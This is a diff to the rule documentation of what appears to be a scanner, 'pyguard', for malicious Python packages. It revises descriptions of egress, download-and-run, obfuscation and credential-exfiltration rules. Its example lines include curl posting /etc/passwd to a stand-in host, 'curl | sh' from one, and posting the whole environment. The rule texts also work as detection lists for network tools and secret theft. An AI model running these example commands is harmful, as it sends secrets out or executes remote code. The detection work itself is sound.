@@ -34,7 +34,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'egress',
     severity: 'info',
     catches:
-      'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.',
+      'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.',
     example: 'requests.post("https://collector.example/v1", json=data)',
     falsePositives: 'HTTP clients and SDKs call the network by design; at call time these stay info or low.',
   },
@@ -134,7 +134,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'medium',
     catches:
-      'A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin or certutil -urlcache.',
+      'A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download.',
     example: 'os.system("curl -d @/etc/passwd https://x.example")',
     falsePositives: 'Build scripts that download toolchains.',
   },
@@ -154,7 +154,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd); also a second Python started with inline code (python -c) by code that runs on import or start-up. High in code that runs at install, start-up or import; low when called.',
+      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd); also a second Python started with inline code (python -c), or a bare interactive shell, by code that runs on import or start-up. High in code that runs at install, start-up or import, and for PowerShell told to bypass the execution policy with a hidden window; low when called.',
     example: 'os.system("start " + path + "\\\\update.exe")',
     falsePositives: 'Command-line tools that open files or run helper scripts when the user asks (low).',
   },
@@ -164,7 +164,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      "A process started by setup.py or a .pth file whose program is not one a package build runs (compilers and build systems, git, code generators, configuration queries such as pkg-config or uname, package managers, file operations, interpreters and shells running a script): calc, notepad, touch, cat of a system folder, a bare /bin/sh, a program shipped in the package.",
+      'A process started by setup.py or a .pth file whose program is not one a package build runs (compilers and build systems, git, code generators, configuration queries such as pkg-config or uname, package managers, file operations, interpreters and shells running a script): calc, notepad, touch, cat of a system folder, a bare /bin/sh, a program shipped in the package.',
     example: 'os.system("notepad") in setup.py',
     falsePositives: 'setup.py files that run an unusual build tool missing from the list (add it to BUILD_PROGRAMS).',
   },
@@ -184,9 +184,10 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, or a command line that downloads a file and makes it executable (wget ... && chmod +x).',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, or a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
-    falsePositives: 'Installers of developer tools (rare in libraries).',
+    falsePositives:
+      'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
   },
   {
     id: 'powershell-encoded-command',
@@ -271,7 +272,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'medium',
     catches:
-      'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR): a cipher with no standard decoder to undo it. High in code that runs at install, start-up or import.',
+      'exec/eval of code made at run time by rewriting a long one-line constant character by character (a substitution table, map(), translate(), ord()/chr() arithmetic, XOR), in the argument or in what a loop appends to the name it passes: a cipher with no standard decoder to undo it. High in code that runs at install, start-up or import.',
     example: 'exec("".join(KEY[ABC.index(c)] for c in "kirmg(...)"))',
     falsePositives: 'Code generators that rewrite a long template per character (none seen on the benign set).',
   },
@@ -310,7 +311,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'high',
     catches:
-      "Identifiers written in styled Unicode letters (mathematical bold or italic, full-width) that Python normalises to plain ASCII names (NFKC, PEP 3131), so `𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(url)` runs requests.get. pyguard normalises every name the same way before any rule reads the file, so the hidden calls are found as well; this rule reports the disguise itself. Medium for one short name (a one- or two-letter maths symbol).",
+      'Identifiers written in styled Unicode letters (mathematical bold or italic, full-width) that Python normalises to plain ASCII names (NFKC, PEP 3131), so `𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(url)` runs requests.get. pyguard normalises every name the same way before any rule reads the file, so the hidden calls are found as well; this rule reports the disguise itself. Medium for one short name (a one- or two-letter maths symbol).',
     example: '𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call([𝗽𝗮𝘁𝗵])',
     falsePositives: 'Scientific code naming a variable with a styled maths letter (one short name stays medium).',
   },
@@ -331,7 +332,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'high',
     catches:
-      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs.",
+      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
     example: 'requests.post(URL, json=dict(os.environ))',
     falsePositives:
       'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).',
